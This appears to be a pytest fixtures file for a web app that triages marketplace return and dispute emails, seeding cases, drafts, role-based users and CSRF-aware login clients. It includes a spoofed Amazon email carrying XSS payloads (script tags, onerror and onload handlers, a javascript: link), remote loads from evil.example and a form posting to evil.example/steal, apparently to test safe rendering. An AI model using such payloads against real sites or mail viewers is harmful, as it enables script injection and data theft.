"""Fixtures for the web page tests: a database with cases, drafts and messages, one user
per role, and clients that log in through the real form."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine

from disputed.config.settings import Settings
from disputed.store import auth
from disputed.store.db import make_engine, session_scope
from disputed.store.models import Case, CaseStatus, Draft, DraftStatus, StoredMessage, utcnow
from disputed.vocabulary import Audience
from disputed.web.app import create_app

PASSWORD = "correct horse battery"
ROLES = ("viewer", "agent", "approver", "admin")
ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "screenshots"


def utc(**delta: float) -> datetime:
    """Now (plus ``delta``) in the form the store's own clock uses, with or without a zone."""
    return utcnow() + timedelta(**delta)


HOSTILE_HTML = """<html><head>
<title>evil</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/sheet.css">
<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/bg.png) }</style>
<script>window.__pwned = 'head'; document.title = 'PWNED';</script>
</head><body onload="window.__pwned='onload'">
<p style="background-image: url('http://evil.example/inline.png')">Your return request for order 111-2222222-3333333.</p>
<img src="http://evil.example/track.gif" onerror="window.__pwned='onerror'" alt="tracking pixel">
<img src="x" onerror="window.__pwned='onerror2'">
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/obj.swf"></object>
<embed src="http://evil.example/embed">
<video poster="http://evil.example/poster.png" src="http://evil.example/v.mp4"></video>
<svg onload="window.__pwned='svg'"><image href="http://evil.example/svg.png"/></svg>
<a href="javascript:window.__pwned='link'" id="evil-link">click me</a>
<form action="http://evil.example/steal"><input name="q"><button>go</button></form>
<div hx-get="/logout" hx-trigger="load">htmx bait</div>
<table background="http://evil.example/table.png"><tr><td>Reason: Wrong item was sent</td></tr></table>
<script src="http://evil.example/remote.js"></script>
</body></html>"""


def hostile_message() -> bytes:
    return (
        "From: Amazon <returns@amazon.com>\r\nTo: shop@example.test\r\n"
        "Subject: Return request <script>window.__pwned='subject'</script>\r\n"
        "Message-ID: <hostile-1@amazon.com>\r\nDate: Sun, 22 Nov 2026 10:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b1\r\n\r\n"
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nReturn request <img src=http://evil.example/t.png>\r\n"
        "--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE_HTML + "\r\n--b1--\r\n"
    ).encode("utf-8")


@dataclass
class Seeded:
    case_id: int
    draft_id: int  # pending, with options, readings
    other_draft_id: int  # a second pending draft on another case
    hostile_case_id: int


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings.model_validate({"database": {"url": f"sqlite:///{tmp_path / 'web.db'}"}, "web": {"port": 0}})


@pytest.fixture
def engine(settings: Settings) -> Iterator[Engine]:
    engine = make_engine(settings.database.url)
    with session_scope(engine) as session:
        for role in ROLES:
            auth.add_user(session, name=role, password=PASSWORD, role=role)
    yield engine
    engine.dispose()


def add_case(session, n: int, *, platform: str = "amazon", kind: str = "return_request", issue: str | None = "wrong_item", due_hours: float = 20, mailbox: str = "shop", language: str = "en", status: DraftStatus = DraftStatus.PENDING, options=None, case_status: CaseStatus = CaseStatus.OPEN) -> tuple[Case, Draft]:
    case = Case(key=f"{platform}:{n:03d}-0000000-0000000", platform=platform, order_id=f"{n:03d}-0000000-0000000", mailbox=mailbox, kind=kind, issue=issue, status=case_status, language=language, buyer_address=f"buyer{n}@marketplace.example", subject=f"Return request for order {n}", due_at=utc(hours=due_hours))
    session.add(case)
    session.flush()
    draft = Draft(
        case_id=case.id,
        handler="wrong_item",
        template="wrong_item",
        language=language,
        to_addr=f"buyer{n}@marketplace.example",
        subject=f"Re: your order {n}",
        body=f"Dear buyer,\n\nWe are sorry that order {n} arrived with the wrong item.\n\nBest regards",
        reading_en=f"We apologise for the wrong item in order {n}.",
        reading_zh=f"我们为订单 {n} 发错货道歉。",
        options=options,
        message_id=f"<draft-{n}@shop.example>",
        status=status,
        due_at=case.due_at,
        audience=Audience.BUYER,
    )
    session.add(draft)
    session.flush()
    return case, draft


@pytest.fixture
def seeded(engine: Engine) -> Seeded:
    with session_scope(engine) as session:
        case, draft = add_case(session, 1, due_hours=5, options=[{"type": "claim_code", "percent": 60}, {"type": "partial_refund", "percent": 40}, {"type": "return_for_refund"}])
        session.add(StoredMessage(mailbox="shop", source_key="1/1", uid=1, uidvalidity=1, sha256="a" * 64, raw=b"From: Amazon <returns@amazon.com>\r\nSubject: Return request\r\n\r\nReturn reason: Wrong item was sent\r\n", case_id=case.id, parsed={"order_id": case.order_id, "asin": "B0TEST1234", "reason": "Wrong item was sent", "amount": "19.99", "currency": "USD", "authentic": True, "auth_evidence": "dkim=pass header.d=amazon.com"}))
        _, other = add_case(session, 2, platform="ebay", kind="dispute", issue="not_received", due_hours=-2, language="de")
        hostile_case, _ = add_case(session, 3, due_hours=40)
        session.add(StoredMessage(mailbox="shop", source_key="1/2", uid=2, uidvalidity=1, sha256="b" * 64, raw=hostile_message(), case_id=hostile_case.id, parsed={"authentic": False, "auth_evidence": "dkim=fail"}))
        return Seeded(case_id=case.id, draft_id=draft.id, other_draft_id=other.id, hostile_case_id=hostile_case.id)


@pytest.fixture
def woken() -> list[int]:
    return []


@pytest.fixture
def app(settings: Settings, engine: Engine, woken: list[int]):
    return create_app(settings, engine, wake_sender=lambda: woken.append(1))


class Operator:
    """A browser-like client: keeps cookies, reads the CSRF token off the pages it loads."""

    def __init__(self, client: TestClient) -> None:
        self.client = client
        self.csrf = ""

    def get(self, url: str, **kw):
        response = self.client.get(url, **kw)
        match = re.search(r'name="csrf_token" value="([0-9a-f]+)"', response.text)
        if match:
            self.csrf = match.group(1)
        return response

    def post(self, url: str, data: dict | None = None, *, csrf: str | None = None, **kw):
        payload = dict(data or {})
        payload.setdefault("csrf_token", self.csrf if csrf is None else csrf)
        return self.client.post(url, data=payload, follow_redirects=False, **kw)


@pytest.fixture
def login(app) -> Callable[[str], Operator]:
    clients: list[TestClient] = []

    def as_user(name: str, password: str = PASSWORD) -> Operator:
        client = TestClient(app, base_url="http://127.0.0.1:8025")
        clients.append(client)
        operator = Operator(client)
        operator.get("/login")
        response = operator.post("/login", {"name": name, "password": password, "next": "/queue"})
        assert response.status_code == 303, response.text
        operator.get("/queue")
        return operator

    yield as_user
    for client in clients:
        client.close()


@pytest.fixture
def anonymous(app) -> Iterator[Operator]:
    with TestClient(app, base_url="http://127.0.0.1:8025") as client:
        yield Operator(client)


def draft_row(engine: Engine, draft_id: int) -> Draft:
    with session_scope(engine) as session:
        return session.get(Draft, draft_id)
